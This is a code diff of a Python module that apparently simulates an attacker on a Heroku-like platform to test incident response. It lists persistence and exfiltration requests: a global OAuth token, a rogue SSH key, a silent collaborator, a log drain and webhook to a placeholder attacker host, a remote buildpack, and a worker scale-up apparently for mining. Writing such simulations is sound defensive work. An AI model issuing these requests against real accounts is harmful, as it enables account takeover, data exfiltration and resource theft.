@@ -13,10 +13,9 @@ Deeds = dict[str, tuple[Callable[[], object], str]]
 
 
 def deeds(world: World) -> Deeds:
-    """What an attacker with a key that nobody found does, by family, and a word of the line that tells of it."""
+    """What an attacker does with another key of the owner's, by family, and a word of the line that tells of it."""
     app = next(iter(world.apps.values())).name
-    key = next(one.token for one in world.authorizations.values() if one.account is world.owner and one.by_attacker)
-    by = caller(world, key, ADDRESS)
+    by = caller(world, world.responder_key, ADDRESS)
     if world.account_named(MAIL) is None:
         world.meet(MAIL)
     hook = {"include": ["api:release"], "level": "notify", "url": f"https://hooks.{SITE}/in"}
@@ -25,9 +24,17 @@ def deeds(world: World) -> Deeds:
     mine = {"updates": [{"type": "worker", "quantity": 6, "size": "Performance-L"}]}
     packs = {"updates": [{"buildpack": f"https://git.{SITE}/apt"}]}
     asked: dict[str, tuple[str, object, str]] = {
-        "authorization": ("POST /oauth/authorizations", {"description": "gh-actions", "scope": ["global"]}, "gh-action"),
+        "authorization": (
+            "POST /oauth/authorizations",
+            {"description": "gh-actions", "scope": ["global"]},
+            "gh-action",
+        ),
         "SSH key": ("POST /account/keys", ssh, "root@kali"),
-        "OAuth client": ("POST /oauth/clients", {"name": "Helper", "redirect_uri": f"https://{SITE}/o"}, "OAuth client"),
+        "OAuth client": (
+            "POST /oauth/clients",
+            {"name": "Helper", "redirect_uri": f"https://{SITE}/o"},
+            "OAuth client",
+        ),
         "log drain": (f"POST /apps/{app}/log-drains", {"url": f"https://logs.{SITE}/x"}, "log drain"),
         "webhook": (f"POST /apps/{app}/webhooks", hook, "webhook"),
         "collaborator": (f"POST /apps/{app}/collaborators", {"user": MAIL, "silent": True}, "collaborator"),
@@ -45,10 +52,3 @@ def deeds(world: World) -> Deeds:
         return act
 
     return {family: (deed(line, body), word) for family, (line, body, word) in asked.items()}
-
-
-def a_key_nobody_found(world: World) -> None:
-    """One of the owner's old keys is the attacker's as well."""
-    held = world.tokens[world.responder_key]
-    other = next(one for one in world.authorizations.values() if one.account is world.owner and one is not held)
-    other.by_attacker = True
